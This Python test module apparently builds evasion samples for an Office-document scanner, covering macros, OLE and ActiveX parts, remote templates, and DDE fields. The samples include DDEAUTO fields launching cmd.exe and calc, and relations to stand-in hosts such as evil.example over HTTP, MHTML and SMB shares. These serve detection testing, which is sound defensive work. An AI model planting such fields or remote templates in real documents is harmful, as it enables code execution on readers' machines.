"""Office documents that run something, or fetch a part of themselves from elsewhere."""

from __future__ import annotations

from collections.abc import Iterator

from tests import samples as files
from tests.corpus.evasion.eicar_documents import workbook
from tests.corpus.sample import Sample, evasion, odd

MACROS, REMOTE, FIELDS = "macros and controls", "fetched from elsewhere", "fields that run"
TEMPLATE = "type of a template"
OLE = files.OLE_HEADER + bytes(1000)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
DOCUMENT = files.docx_of(files.SAMPLE_LINES)
BOOK = workbook([["name", "email"], ["Ada", "ada@example.com"]])
RUN = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'


def samples() -> Iterator[Sample]:
    for name, content in with_macros().items():
        yield evasion(MACROS, f"DOCX, {name}", "cv.docx", content)
        packed = evasion if name != TEMPLATE else odd  # a template is not taken by itself, and harms nobody
        yield packed(MACROS, f"DOCX, {name}, in a ZIP", "all.zip", files.zip_of({"cv.docx": content}))
    for name, content in workbooks().items():
        yield evasion(MACROS, f"XLSX, {name}", "people.xlsx", content)
    for extension in ("docm", "dotm", "dotx", "doc", "rtf", "xlsm", "xls", "xlsb", "xlam", "pptm", "odt"):
        yield evasion(MACROS, f"named .{extension}", f"cv.{extension}", DOCUMENT)
    for name, (kind, target) in remote().items():
        yield evasion(REMOTE, f"DOCX, {name}", "cv.docx", linked(kind, target))
    yield evasion(
        REMOTE,
        "DOCX in a DOCX",
        "cv.docx",
        files.with_member(DOCUMENT, "word/embeddings/a.docx", linked("attachedTemplate", "https://e.example/t.dotm")),
    )
    for name, xml in fields().items():
        yield evasion(FIELDS, name, "cv.docx", files.docx_with_body(xml))
    code = _field("DDEAUTO c:\\\\cmd.exe")
    header = f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{_p(code)}</w:hdr>'
    yield evasion(FIELDS, "in a header", "cv.docx", files.with_member(DOCUMENT, "word/header1.xml", header.encode()))
    yield evasion(
        FIELDS,
        "in a header in UTF-16",
        "cv.docx",
        files.with_member(DOCUMENT, "word/header1.xml", header.encode("utf-16")),
    )
    yield evasion(
        FIELDS,
        "in a part of another name",
        "cv.docx",
        files.with_member(DOCUMENT, "word/footnotes.bin", header.encode()),
    )


def with_macros() -> dict[str, bytes]:
    program = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(100)
    return {
        "vbaProject.bin": files.with_member(DOCUMENT, "word/vbaProject.bin", OLE),
        "project of another name": files.with_member(DOCUMENT, "word/styles2.xml", OLE),
        "project by type": typed(DOCUMENT, "application/vnd.ms-office.vbaProject"),
        "macro-enabled by type": retyped(DOCUMENT, b"document.main+xml", b"document.macroEnabled.main+xml"),
        TEMPLATE: retyped(DOCUMENT, b"document.main+xml", b"template.main+xml"),
        "project by relation": linked("vbaProject", "anything.bin", base=MICROSOFT, mode="Internal"),
        "toolbars": linked("attachedToolbars", "t.bin", base=MICROSOFT, mode="Internal"),
        "OLE object": files.with_member(DOCUMENT, "word/embeddings/oleObject1.bin", OLE),
        "OLE object as picture": files.with_member(DOCUMENT, "word/media/image1.png", OLE),
        "control": files.with_member(DOCUMENT, "word/activeX/activeX1.bin", OLE),
        "control by type": typed(DOCUMENT, "application/vnd.ms-office.activeX+xml"),
        "control by relation": linked("control", "activeX1.xml", mode="Internal"),
        "program": files.with_member(DOCUMENT, "word/media/image1.png", program),
        "HTML within": linked("aFChunk", "part.mht", mode="Internal"),
        "HTML embedded": files.with_member(DOCUMENT, "word/embeddings/a.html", b"<html><script>alert(1)</script>"),
        "shortcut": files.with_member(DOCUMENT, "word/a.lnk", bytes.fromhex("4c0000000114020000000000c0")),
        "ZIP within": files.with_member(DOCUMENT, "word/media/a.png", files.zip_of({"a.txt": b"a"})),
        "two parts of one name": files.with_member(DOCUMENT, "WORD/document.xml", b"<a/>"),
        "document and workbook": typed(
            DOCUMENT, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        ),
    }


def workbooks() -> dict[str, bytes]:
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return {
        "vbaProject.bin": files.with_member(BOOK, "xl/vbaProject.bin", OLE),
        "macro sheet": files.with_member(BOOK, "xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
        "macro sheet by type": typed(BOOK, "application/vnd.ms-excel.macrosheet+xml"),
        "dialogue macro sheet by type": typed(BOOK, "application/vnd.ms-excel.intlmacrosheet+xml"),
        "DDE link": files.with_member(BOOK, "xl/externalLinks/externalLink1.xml", dde),
        "OLE object": files.with_member(BOOK, "xl/embeddings/oleObject1.bin", OLE),
        "remote object": linked(
            "oleObject", "https://e.example/a.xls", document=BOOK, part="xl/_rels/workbook.xml.rels"
        ),
        "document as workbook": DOCUMENT,
        "binary workbook": retyped(
            BOOK, b"spreadsheetml.sheet.main+xml", b"spreadsheetml.sheet.binary.macroEnabled.main"
        ),
    }


def remote() -> dict[str, tuple[str, str]]:
    return {
        "template by https": ("attachedTemplate", "https://evil.example/t.dotm"),
        "template by http, odd case": ("ATTACHEDTEMPLATE", "HTTP://evil.example/t.dotm"),
        "template on a share": ("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
        "template on a share, as address": ("attachedTemplate", "file://evil.example/share/t.dotm"),
        "template on a share, escaped": ("attachedTemplate", "file:///%5C%5Cevil.example%5Cshare%5Ct.dotm"),
        "template without a scheme": ("attachedTemplate", "//evil.example/t.dotm"),
        "template by another protocol": ("attachedTemplate", "mhtml:https://evil.example/t.dotm"),
        "object": ("oleObject", "https://evil.example/exploit.html!"),
        "object by MHTML": ("oleObject", "mhtml:https://evil.example/a!x-usc:https://evil.example/a"),
        "frame": ("frame", "https://evil.example/frame.html"),
        "subdocument": ("subDocument", "https://evil.example/sub.docx"),
        "picture on a share": ("image", "file://evil.example/share/a.png"),
        "picture on a share, backslashes": ("image", "\\\\evil.example\\share\\a.png"),
        "mail merge": ("mailMergeSource", "https://evil.example/people.csv"),
        "chunk": ("aFChunk", "https://evil.example/a.mht"),
        "unknown relation": ("somethingNew", "https://evil.example/"),
    }


def fields() -> dict[str, str]:
    run = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
    quoted = "QUOTE 68 68 69 65 85 84 79"
    return {
        "DDEAUTO": _p(_field(run)),
        "DDE": _p(_field(" DDE Excel Sheet1")),
        "lower case": _p(_field(run.lower())),
        "cut in two": _p(
            MARK.format("begin") + RUN.format("DDE") + RUN.format("AUTO c:\\\\cmd.exe") + MARK.format("end")
        ),
        "cut in letters": _p(
            MARK.format("begin")
            + "".join(RUN.format(letter) for letter in "DDEAUTO")
            + RUN.format(" cmd")
            + MARK.format("end")
        ),
        "simple field": _p(f'<w:fldSimple w:instr="{run}"/>'),
        "from numbers": _p(MARK.format("begin") + _field(quoted) + MARK.format("end")),
        "never ended": _p(MARK.format("begin") + RUN.format(run)),
        "in a table": f"<w:tbl><w:tr><w:tc>{_p(_field(run))}</w:tc></w:tr></w:tbl>",
        "over two paragraphs": _p(MARK.format("begin") + RUN.format("DDE"))
        + _p(RUN.format("AUTO cmd") + MARK.format("end")),
        "text from elsewhere": _p(_field('INCLUDETEXT "https://evil.example/a.docx"')),
        "picture from a share": _p(_field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"')),
    }


def _p(runs: str) -> str:
    return f"<w:p>{runs}</w:p>"


def _field(code: str) -> str:
    return MARK.format("begin") + RUN.format(code) + MARK.format("separate") + MARK.format("end")


def linked(
    kind: str,
    target: str,
    *,
    base: str = RELATIONS,
    mode: str = "External",
    document: bytes = DOCUMENT,
    part: str = "word/_rels/settings.xml.rels",
) -> bytes:
    """The document with one more relation, kept by the part that this list belongs to."""
    xml = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{base}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return files.with_member(document, part, xml.encode())


def typed(document: bytes, content_type: str) -> bytes:
    """The document with one more declared content type."""
    return retyped(document, b"</Types>", f'<Default Extension="q" ContentType="{content_type}"/></Types>'.encode())


def retyped(document: bytes, old: bytes, new: bytes) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(document)) as package:
        types = package.read("[Content_Types].xml")
    assert old in types
    return files.with_member(document, "[Content_Types].xml", types.replace(old, new))
